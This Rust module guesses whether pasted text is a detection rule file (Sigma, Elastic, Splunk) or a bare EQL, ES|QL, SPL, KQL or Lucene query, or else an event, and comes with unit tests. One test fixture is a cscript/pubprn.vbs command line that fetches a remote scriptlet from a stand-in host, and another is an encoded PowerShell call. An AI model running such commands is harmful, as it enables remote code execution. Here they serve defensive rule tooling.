//! Which language is this rule in, and what is it wrapped in?
//!
//! Asked in this order, and the first that fits decides:
//!
//! 1. the file around a query, by its keys: Elastic's TOML, Sigma's YAML, Splunk's YAML, the
//!    stanzas of `savedsearches.conf`;
//! 2. what is no rule at all: JSON or XML, which are events, for the most part;
//! 3. how a query begins: EQL's `process where` and `sequence`, ES|QL's `from`, SPL's `|`, a
//!    macro in backticks, and SPL's commands behind later pipes;
//! 4. a command line, which is an event too;
//! 5. the first operator: `=` is SPL's and `==` EQL's;
//! 6. what only Lucene has: `/…/`, `[a TO b]`, `+a -b`, boosts, escapes that KQL refuses;
//! 7. YAML without the keys of any file, which is a Sigma rule half written;
//! 8. KQL, where a field and a colon, or a comparison, stand in the text. `AND` and `OR` in upper
//!    case are in both languages and mean the same, and KQL can be evaluated.
//!
//! What is left is read as Sigma, whose parser says what a rule looks like.

use super::Language;

/// How the text of a rule is laid out.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Shape {
    /// YAML documents of Sigma.
    Sigma,
    /// A TOML file of Elastic's detection rules, whose `language` says the rest.
    ElasticRule,
    /// A YAML file of Splunk's security content, with a `search`.
    SplunkRule,
    /// Stanzas like those of `savedsearches.conf`.
    SavedSearches,
    /// A bare query.
    Query(Language),
    /// Something else that people paste here.
    NoRule(NoRule),
}

/// What was pasted in place of a rule.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum NoRule {
    CommandLine,
    Json,
    Xml,
}

/// A shape, and the part of a sentence after "because" that says why.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Detected {
    pub shape: Shape,
    pub why: &'static str,
}

/// The shape of a rule text; `language` is what the user chose, and overrides what was found.
pub fn shape(source: &str, language: Option<Language>) -> Shape {
    let found = || detect(source).shape;
    match language {
        None => found(),
        Some(Language::Sigma) => Shape::Sigma,
        Some(Language::Spl) => match found() {
            file @ (Shape::SplunkRule | Shape::SavedSearches) => file,
            _ => Shape::Query(Language::Spl),
        },
        Some(language) => match found() {
            Shape::ElasticRule => Shape::ElasticRule,
            _ => Shape::Query(language),
        },
    }
}

/// Finds out what a text is.
pub fn detect(source: &str) -> Detected {
    let source = source.trim_start_matches('\u{feff}');
    if let Some(detected) = file(source).or_else(|| data(source)) {
        return detected;
    }
    let query = without_comments(source);
    let masked = masked(query);
    let words: Vec<&str> = masked.split_whitespace().take(3).collect();
    let found = beginning(query, &words)
        .or_else(|| pipes(&masked))
        .or_else(|| command_line(query))
        .or_else(|| first_operator(&masked))
        .or_else(|| lucene(&masked))
        .or_else(|| yaml(&masked))
        .or_else(|| kql(&masked));
    found.unwrap_or(Detected {
        shape: Shape::Sigma,
        why: "nothing in it belongs to another language",
    })
}

fn is(shape: Shape, why: &'static str) -> Option<Detected> {
    Some(Detected { shape, why })
}

fn query(language: Language, why: &'static str) -> Option<Detected> {
    is(Shape::Query(language), why)
}

/// Files that hold a rule, by the keys at the start of their lines.
fn file(source: &str) -> Option<Detected> {
    let lines = || source.lines().map(str::trim_end);
    let multi_line = |line: &str| {
        let value = line.strip_prefix("query")?.trim_start().strip_prefix('=')?;
        let value = value.trim_start();
        (value.starts_with("'''") || value.starts_with("\"\"\"")).then_some(())
    };
    if lines().any(|line| line == "[rule]" || line.starts_with("[[rule.")) {
        return is(Shape::ElasticRule, "it has a `[rule]` table");
    }
    if lines().any(|line| line == "[hunt]") {
        return is(Shape::ElasticRule, "it has a `[hunt]` table");
    }
    if lines().any(|line| multi_line(line).is_some()) {
        return is(Shape::ElasticRule, "it has a TOML `query = '''`");
    }
    let key = |name: &str| {
        lines().any(|line| {
            line.strip_prefix(name)
                .and_then(|rest| rest.trim_start().strip_prefix(':'))
                .is_some_and(|rest| rest.is_empty() || rest.starts_with([' ', '\t']))
        })
    };
    for (name, why) in [
        ("detection", "it has a key `detection`"),
        ("logsource", "it has a key `logsource`"),
        ("correlation", "it has a key `correlation`"),
    ] {
        if key(name) {
            return is(Shape::Sigma, why);
        }
    }
    if key("search") {
        return is(Shape::SplunkRule, "it has a YAML key `search`");
    }
    if key("title") || key("filter") || key("action") {
        return is(Shape::Sigma, "it has the keys of a Sigma rule");
    }
    let first = lines()
        .map(str::trim)
        .find(|line| !line.is_empty() && !line.starts_with(['#', ';']))?;
    let stanza = first.starts_with('[') && first.ends_with(']') && !first.contains(" where ");
    let search = |line: &str| {
        line.strip_prefix("search")
            .is_some_and(|rest| rest.trim_start().starts_with('='))
    };
    if (stanza && lines().any(search)) || search(first) {
        return is(Shape::SavedSearches, "it has a line `search = …`");
    }
    None
}

/// Data formats. Sigma may be written as JSON, which is YAML too.
fn data(source: &str) -> Option<Detected> {
    let rest = source.trim_start();
    let inside = rest.get(1..).unwrap_or_default().trim_start();
    let json = match rest.chars().next()? {
        '{' => inside.starts_with(['"', '}']),
        '[' => inside.starts_with(['{', ']']) || inside.starts_with('"') && inside.contains("\","),
        '<' => {
            let tag = inside.starts_with(|c: char| c.is_alphabetic() || c == '?' || c == '!');
            return tag
                .then_some(Shape::NoRule(NoRule::Xml))
                .and_then(|shape| is(shape, "it begins with an XML tag"));
        }
        _ => false,
    };
    if !json {
        return None;
    }
    if rest.contains("\"detection\"") || rest.contains("\"logsource\"") {
        return is(Shape::Sigma, "it has a key `detection`");
    }
    is(Shape::NoRule(NoRule::Json), "it begins like JSON")
}

/// The text behind the comments it begins with.
fn without_comments(source: &str) -> &str {
    let mut rest = source.trim_start();
    loop {
        let after = if rest.starts_with("//") || rest.starts_with('#') {
            rest.find('\n')
        } else if let Some(inside) = rest.strip_prefix("/*") {
            inside.find("*/").map(|at| at + 4)
        } else if let Some(inside) = rest.strip_prefix("```") {
            inside.find("```").map(|at| at + 6)
        } else {
            return rest;
        };
        match after {
            Some(after) => rest = rest[after..].trim_start(),
            None => return rest,
        }
    }
}

/// The text with what stands between double quotes replaced by `_`, so that only the language's
/// own signs are left. A quote that is not closed on its line is left as it is.
fn masked(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for line in text.split_inclusive('\n') {
        let mut rest = line;
        // Once all quotes that are left are escaped, looking again would find no other.
        let mut escapes = true;
        while let Some(open) = rest.find('"') {
            out.push_str(&rest[..=open]);
            rest = &rest[open + 1..];
            let mut escaped = false;
            let close = rest.find(|c| {
                let closes = c == '"' && !escaped;
                escaped = escapes && c == '\\' && !escaped;
                closes
            });
            escapes &= close.is_some();
            // A path may end in a backslash before its quote.
            match close.or_else(|| rest.find('"')) {
                Some(close) => {
                    out.push_str("_\"");
                    rest = &rest[close + 1..];
                }
                None => break,
            }
        }
        out.push_str(rest);
    }
    out
}

fn beginning(text: &str, words: &[&str]) -> Option<Detected> {
    let lower: Vec<String> = words.iter().map(|word| word.to_lowercase()).collect();
    let word = |at: usize| lower.get(at).map_or("", String::as_str);
    let joins = ["by", "with"];
    let bracket = |word: &str| word.starts_with('[') || word.starts_with("![");
    if matches!(word(0), "sequence" | "sample" | "join")
        && (joins.contains(&word(1)) || bracket(word(1)))
    {
        return query(Language::Eql, "it begins with a sequence of events");
    }
    let category = |word: &str| {
        let name = word.trim_start_matches('[');
        !name.is_empty()
            && name
                .chars()
                .all(|c| c.is_alphanumeric() || "_*\".-?".contains(c))
    };
    if word(1) == "where" && category(word(0)) && word(0) != "from" {
        return query(Language::Eql, "it begins with a category and `where`");
    }
    let sources = |word: &str| !word.is_empty() && !word.starts_with([':', '=', '<', '>', '!']);
    if matches!(word(0), "from" | "ts" | "metrics") && sources(word(1)) && !word(1).ends_with(':') {
        return query(
            Language::Esql,
            "it begins with `from` and the name of an index",
        );
    }
    if matches!(word(0), "row" | "show") && words.len() > 2 && text.contains('|') {
        return query(Language::Esql, "it begins with a source command of ES|QL");
    }
    if text.starts_with('|') {
        return query(Language::Spl, "it begins with a pipe");
    }
    if text.starts_with('`') {
        return query(Language::Spl, "it begins with a macro in backticks");
    }
    if word(0) == "search" && words.len() > 1 && sources(word(1)) {
        return query(Language::Spl, "it begins with `search`");
    }
    None
}

/// Commands of SPL that neither EQL nor a shell has behind a pipe.
const SPL_COMMANDS: [&str; 30] = [
    "search",
    "where",
    "stats",
    "tstats",
    "eval",
    "table",
    "rex",
    "regex",
    "fields",
    "rename",
    "dedup",
    "eventstats",
    "streamstats",
    "timechart",
    "chart",
    "lookup",
    "inputlookup",
    "outputlookup",
    "fillnull",
    "mvexpand",
    "makemv",
    "transaction",
    "bin",
    "bucket",
    "spath",
    "top",
    "rare",
    "append",
    "join",
    "convert",
];

fn pipes(masked: &str) -> Option<Detected> {
    masked.split('|').skip(1).find_map(|stage| {
        let stage = stage.trim_start();
        let end = stage
            .find(|c: char| !c.is_alphabetic())
            .unwrap_or(stage.len());
        let command = stage[..end].to_lowercase();
        if stage.starts_with('`') {
            return query(Language::Spl, "a macro in backticks follows a pipe");
        }
        SPL_COMMANDS
            .contains(&command.as_str())
            .then_some(())
            .and_then(|()| query(Language::Spl, "a command of SPL follows a pipe"))
    })
}

/// The endings of files that a command line begins with.
const PROGRAMS: [&str; 9] = [
    ".exe", ".vbs", ".ps1", ".bat", ".cmd", ".js", ".wsf", ".hta", ".com",
];
/// Programs that are often typed without their ending.
const COMMANDS: [&str; 14] = [
    "cmd",
    "powershell",
    "pwsh",
    "cscript",
    "wscript",
    "rundll32",
    "regsvr32",
    "mshta",
    "certutil",
    "msiexec",
    "schtasks",
    "winrm",
    "reg",
    "wmic",
];

fn command_line(text: &str) -> Option<Detected> {
    let line = text.lines().next().unwrap_or_default();
    let (first, rest) = match line.strip_prefix('"').and_then(|line| line.split_once('"')) {
        Some(quoted) => quoted,
        None => line.split_once(char::is_whitespace).unwrap_or((line, "")),
    };
    let rest = rest.trim_start();
    let next = rest.split_whitespace().next().unwrap_or_default();
    let joined = ["and", "or", "not"]
        .iter()
        .any(|word| next.eq_ignore_ascii_case(word));
    if joined || next.starts_with([':', '=', '|']) || first.contains(['*', '=', '(']) {
        return None;
    }
    let lower = first.to_lowercase();
    let bytes = lower.as_bytes();
    let drive = bytes.len() > 3 && bytes[0].is_ascii_alphabetic() && &bytes[1..3] == b":\\";
    let share = lower.starts_with("\\\\");
    // `field.exe:` is no program, `C:\x.exe` is.
    let named =
        PROGRAMS.iter().any(|ending| lower.ends_with(ending)) && (drive || !lower.contains(':'));
    let typed = COMMANDS.contains(&lower.as_str()) && !next.is_empty();
    (drive || share || named || typed)
        .then_some(Shape::NoRule(NoRule::CommandLine))
        .and_then(|shape| is(shape, "it begins with a program or a path"))
}

/// The first sign that compares, where SPL and EQL differ from the others.
fn first_operator(masked: &str) -> Option<Detected> {
    let at = masked.find([':', '=', '<', '>', '!'])?;
    let (before, sign) = masked.split_at(at);
    let word = before.split_whitespace().next_back().unwrap_or_default();
    let in_list = |text: &str| {
        text.split_whitespace()
            .any(|word| word == "in~" || word == "like~" || word == "regex~" || word == "regex")
    };
    if sign.starts_with("==") || sign.starts_with("!=") && masked.contains("==") || in_list(before)
    {
        return query(Language::Eql, "it compares with EQL's operators");
    }
    if sign.starts_with(':') && masked.contains("\", ") && sign[1..].trim_start().starts_with('(') {
        return query(
            Language::Eql,
            "it has a list of values with commas behind a colon",
        );
    }
    if (sign.starts_with('=') || sign.starts_with("!=")) && !word.is_empty() {
        return query(Language::Spl, "it compares with `=`");
    }
    None
}

fn lucene(masked: &str) -> Option<Detected> {
    let lucene = |why| query(Language::Lucene, why);
    // Lucene takes `and` in lower case for a word to look for, so who writes it means KQL.
    let joins = ["and", "or", "not"];
    let kql = masked.split_whitespace().any(|word| joins.contains(&word));
    let chars: Vec<char> = masked.chars().collect();
    for (at, &c) in chars.iter().enumerate() {
        let before = at.checked_sub(1).map(|at| chars[at]);
        let after = chars.get(at + 1).copied();
        let opens = before.is_none_or(|c| c.is_whitespace() || c == '(');
        match c {
            // Kibana escapes its own signs and nothing else.
            '\\' if before != Some('\\') && after.is_some_and(|c| "-+/.~^!&|[]?= ".contains(c)) => {
                return lucene("it escapes what only Lucene needs to escape");
            }
            ':' if after == Some('/')
                && chars[at + 2..].contains(&'/')
                && ends_regex(&chars[at + 2..]) =>
            {
                return lucene("it has a regular expression between slashes");
            }
            ':' if matches!(after, Some('>' | '<')) => {
                return lucene("it compares with `:>` or `:<`");
            }
            '+' | '-'
                if !kql
                    && opens
                    && after
                        .is_some_and(|c| c.is_alphabetic() || c == '"' || c == '(' || c == '_') =>
            {
                return lucene("it has `+` or `-` before a term");
            }
            '~' | '^'
                if before.is_some_and(|c| c == '"' || c == ')' || c.is_alphanumeric())
                    && after
                        .is_none_or(|c| c.is_ascii_digit() || c.is_whitespace() || c == ')') =>
            {
                return lucene("it has a fuzzy term or a boost");
            }
            _ => {}
        }
    }
    if masked.contains(" TO ") && masked.contains(['[', '{']) {
        return lucene("it has a range `[a TO b]`");
    }
    if masked.contains("_exists_:") {
        return lucene("it asks for `_exists_`");
    }
    if masked.contains("&&") || masked.contains("||") {
        return lucene("it joins with `&&` or `||`");
    }
    None
}

/// Whether a slash closes the expression and ends the term.
fn ends_regex(rest: &[char]) -> bool {
    let mut escaped = false;
    for (at, &c) in rest.iter().enumerate() {
        match c {
            '\n' => return false,
            '/' if !escaped => {
                return rest
                    .get(at + 1)
                    .is_none_or(|c| c.is_whitespace() || *c == ')');
            }
            c => escaped = c == '\\' && !escaped,
        }
    }
    false
}

/// Keys and values on lines of their own that nothing joins.
fn yaml(masked: &str) -> Option<Detected> {
    let key = |line: &&str| {
        let (name, rest) = line.split_once(':').unwrap_or((" ", ""));
        let plain = |c: char| c.is_alphanumeric() || c == '_' || c == '-';
        !name.is_empty()
            && name.chars().all(plain)
            && (rest.trim().is_empty() || rest.starts_with(' '))
    };
    let keys = masked.lines().filter(key).count();
    let joined = masked
        .split_whitespace()
        .any(|word| matches!(word.to_ascii_lowercase().as_str(), "and" | "or" | "not"));
    let opens = masked
        .lines()
        .next()
        .is_some_and(|line| line.trim_end().ends_with(':'));
    if !joined && (keys > 1 || opens) {
        return is(Shape::Sigma, "it has keys of YAML on lines of their own");
    }
    None
}

fn kql(masked: &str) -> Option<Detected> {
    let at = masked.find([':', '<', '>'])?;
    let before = masked[..at].trim_end();
    let named = before.ends_with(|c: char| c.is_alphanumeric() || "_*\"@-".contains(c));
    if !named {
        return None;
    }
    let why = if masked[at..].starts_with(':') {
        "it has a field, a colon and a value"
    } else {
        "it compares a field with `<` or `>`"
    };
    query(Language::Kql, why)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_language_is_told_by_its_own_marks() {
        use Language::{Eql, Esql, Kql, Lucene, Spl};
        for (text, language) in [
            ("process where process.name == \"x\"", Eql),
            ("// why\nany where true", Eql),
            ("[process where true]", Eql),
            (
                "sequence by host.id with maxspan=1m\n [process where true] [file where true]",
                Eql,
            ),
            ("process.name == \"cmd.exe\" and x", Eql),
            ("process.name : (\"a.exe\", \"b.exe\")", Eql),
            ("from logs-* | where process.name == \"x\"", Esql),
            ("FROM logs-*\n| WHERE a LIKE \"b*\"", Esql),
            ("row a = 1 | keep a", Esql),
            ("index=win EventCode=1", Spl),
            ("| tstats count from datamodel=Endpoint.Processes", Spl),
            ("`sysmon` EventCode=1", Spl),
            ("search cscript.exe | stats count by host", Spl),
            ("(process_name=\"a.exe\" OR x) AND user!=\"b\"", Spl),
            ("\"pubprn.vbs\" script | table host", Spl),
            ("cmd.exe | stats count by user", Spl),
            ("process.name:cscript.exe and process.args:*script*", Kql),
            ("not process.name : \"x\" AND user.name:y", Kql),
            ("process.name: \"a\" AND NOT user.name: b", Kql),
            ("destination.port >= 1024", Kql),
            ("url.query: *a=b*", Kql),
            ("items:{ a:b and c:d }", Kql),
            ("process.args:(-x or +y)", Kql),
            ("process.command_line:/.*pubprn.*/", Lucene),
            ("source.port:[1 TO 1024] AND a:b", Lucene),
            ("+process.name:cmd.exe -user.name:system", Lucene),
            (
                "process.executable:*\\\\cmd.exe AND a:C\\:\\\\Program\\ Files*",
                Lucene,
            ),
            ("_exists_:user.name", Lucene),
            ("process.name:(cmd.exe || powershell.exe)", Lucene),
            ("process.name:powershel~1", Lucene),
            ("port:>1024", Lucene),
        ] {
            let detected = detect(text);
            assert_eq!(
                detected.shape,
                Shape::Query(language),
                "{text}: {}",
                detected.why
            );
        }
    }

    #[test]
    fn files_are_told_by_their_keys() {
        for (text, shape) in [
            ("title: x\ndetection:\n  a: b\n", Shape::Sigma),
            (
                "\u{feff}logsource: {product: windows}\r\ndetection:\r\n",
                Shape::Sigma,
            ),
            ("{\"title\": \"x\", \"detection\": {}}", Shape::Sigma),
            (
                "title: x\ncorrelation:\n  type: event_count\n",
                Shape::Sigma,
            ),
            ("name: x\nsearch: '| tstats count'\n", Shape::SplunkRule),
            (
                "[rule]\nname = \"x\"\nquery = '''\nprocess where true\n'''\n",
                Shape::ElasticRule,
            ),
            (
                "language = \"kuery\"\nquery = \"\"\"\na:b\n\"\"\"\n",
                Shape::ElasticRule,
            ),
            (
                "# mine\n[My search]\ncron_schedule = * * * * *\nsearch = index=x\n",
                Shape::SavedSearches,
            ),
            ("", Shape::Sigma),
            ("hello", Shape::Sigma),
            ("author: me\nlevel: high\n", Shape::Sigma),
            ("selection:\n  a: b\n", Shape::Sigma),
        ] {
            assert_eq!(detect(text).shape, shape, "{text}");
        }
    }

    #[test]
    fn events_in_place_of_a_rule_are_told() {
        for (text, what) in [
            (
                "cscript.exe //b C:\\x\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct",
                NoRule::CommandLine,
            ),
            (
                "\"C:\\Windows\\System32\\cmd.exe\" /c set a=b",
                NoRule::CommandLine,
            ),
            ("powershell -enc AAAA", NoRule::CommandLine),
            ("{\"CommandLine\": \"a\"}", NoRule::Json),
            ("[\n {\"a\": 1}]", NoRule::Json),
            ("<Event xmlns='x'/>", NoRule::Xml),
        ] {
            assert_eq!(detect(text).shape, Shape::NoRule(what), "{text}");
        }
    }

    #[test]
    fn what_the_user_chose_comes_first() {
        let toml = "[rule]\nquery = 'a:b'\n";
        let kql = "a:b";
        for (text, language, shape) in [
            (kql, Language::Lucene, Shape::Query(Language::Lucene)),
            (kql, Language::Sigma, Shape::Sigma),
            (toml, Language::Eql, Shape::ElasticRule),
            ("search: x\n", Language::Spl, Shape::SplunkRule),
        ] {
            assert_eq!(super::shape(text, Some(language)), shape, "{text}");
        }
    }
}
